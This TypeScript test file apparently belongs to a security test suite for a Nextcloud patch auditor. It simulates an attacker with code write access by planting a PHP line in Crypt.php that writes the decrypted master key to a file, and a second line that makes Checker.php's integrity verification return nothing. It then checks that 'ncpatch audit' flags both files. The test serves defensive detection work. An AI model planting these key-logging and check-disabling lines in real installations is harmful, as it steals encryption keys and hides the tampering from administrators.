import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { run } from '../../platform/run.ts';
import { projectProgram } from '../harness/keyserver-process.ts';
import type { NextcloudInstance } from '../harness/nextcloud-instance.ts';
import { type Attack, control, Findings, skipped } from './attack.ts';
import { nextcloudLog } from './failing-decryption.ts';
import { openKeyBlob } from './nextcloud-crypto.ts';
import { secretOf } from './thief.ts';

interface Report {
  readonly findings: readonly { readonly kind: string; readonly path: string }[];
}

const crypt = 'apps/encryption/lib/Crypto/Crypt.php';
const checker = 'lib/private/IntegrityCheck/Checker.php';

/** As somebody does who may write the code, in place; answers how to take it back. */
function plant(root: string, path: string, where: RegExp, line: string): () => void {
  const file = join(root, path);
  const text = readFileSync(file, 'utf8');
  const planted = text.replace(where, (found) => `${found}\n${line}`);
  control(planted !== text, `there is no place for the line in ${path}`);
  writeFileSync(file, planted);
  return () => writeFileSync(file, text);
}

async function audit(root: string): Promise<{ readonly exit: number; readonly found: ReadonlySet<string> }> {
  const command = [...projectProgram('patcher/main.ts'), 'audit', '--local', '--root', root, '--json'];
  const answer = await run(command as [string, ...string[]], {
    timeoutMs: 120_000,
    allowExit: 'any',
    maxBytes: 64 << 20,
  });
  const { findings } = JSON.parse(answer.stdout.toString('utf8')) as Report;
  return {
    exit: answer.exit,
    found: new Set(findings.map(({ kind, path }) => `${kind} ${path.slice(root.length + 1)}`)),
  };
}

/** The vendor's own check of the encryption app; it runs the very code that it is to check. */
async function selfCheck(instance: NextcloudInstance): Promise<string> {
  const { exit, stdout } = await instance.occ(['integrity:check-app', 'encryption'], { anyExit: true });
  return `${exit} ${stdout}`;
}

export const changedCodeRow: Attack = {
  row: '11',
  attackerHas: "write access to Nextcloud's code, to log keys",
  stock: 'unnoticed: the check that would tell is part of the code',
  latchkey: "ncpatch audit, run from elsewhere, names every file that is not the vendor's",
  run: async (scene) => {
    const obstacle = scene.obstacle();
    if (obstacle !== null) return skipped(obstacle);
    const { instance, doors, keys, now } = await scene.nextcloud();
    const { root } = instance;
    const before = await audit(root);
    const log = nextcloudLog(instance);

    const loot = join(instance.base, 'tmp', 'loot');
    scene.row.add('loot', () => rmSync(loot, { force: true }));
    scene.row.add('restart', () => instance.restartServer());
    const end = /function decryptPrivateKey.*?isValidPrivateKey\(\$plainKey\) === false\) \{[^}]*\}/s;
    scene.row.add(crypt, plant(root, crypt, end, `\t\tfile_put_contents('${loot}', $plainKey);`));
    const told = await selfCheck(instance);
    control(
      told.includes('lib/Crypto/Crypt.php'),
      `the vendor's own check says nothing as long as it is whole: ${told}`,
    );
    const start = /private function verify\([^{]*\{/;
    scene.row.add(checker, plant(root, checker, start, '\t\treturn [];'));

    await instance.restartServer(); // or wait until opcache looks again
    await doors.readByDav('moved');
    control(existsSync(loot), 'the planted line does not write the key to a file');
    const stolen = readFileSync(loot, 'utf8');
    const instanceSecret = secretOf(now);
    const pems = [...keys].map(([id, blob]) =>
      instanceSecret === null ? null : openKeyBlob(blob, instanceSecret, id.replace(/\.privateKey$/, '')),
    );
    control(
      pems.some((pem) => pem !== null && pem.toString() === stolen),
      'what the planted line writes is not the key',
    );
    const silent = await selfCheck(instance);
    control(silent.trim() === '0', `the vendor's own check tells: ${silent}`);
    const said = nextcloudLog(instance).slice(log.length);
    control(!/Crypt\.php|Checker\.php|integrity/i.test(said), 'Nextcloud tells of it in its log');

    const after = await audit(root);
    const found = new Findings();
    const fresh = [...after.found].filter((one) => !before.found.has(one)).sort();
    found.expect(after.exit === 1, `ncpatch audit ended with ${after.exit}`);
    for (const path of [crypt, checker]) found.expect(fresh.includes(`changed ${path}`), `${path} is not named`);
    found.expect(fresh.length === 2, `named besides: ${fresh.join(', ')}`);
    return found.outcome(
      'one planted line writes the master key to a file, a second one has occ integrity:check-app find nothing (it runs ' +
        "the attacker's code) and the log is silent; ncpatch audit names both files, and no other",
    );
  },
};
